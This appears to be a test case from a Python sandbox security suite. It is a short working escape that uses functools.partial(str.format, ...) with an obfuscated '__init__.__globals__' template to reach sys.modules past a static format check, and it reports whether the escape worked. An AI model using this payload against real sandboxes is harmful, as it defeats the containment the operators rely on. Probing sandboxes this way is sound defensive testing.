# technique: functools.partial(str.format, tpl) then p(exit): the call of the partial is not an attribute call, so the format rewriter never sees the run-time template
# configs: default, common
# Written the obvious way, `str.format` as a value is refused statically (bare extraction of
# 'format'); 128 gets the same method past the static check.
import functools
u = '_' * 2
tpl = '{0.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}'
render = functools.partial(str.format, tpl)
text = render(exit)
if "<module 'sys'" in text:
    return [{'json': {'escaped': text[:300]}}]
return [{'json': {'result': text[:300]}}]
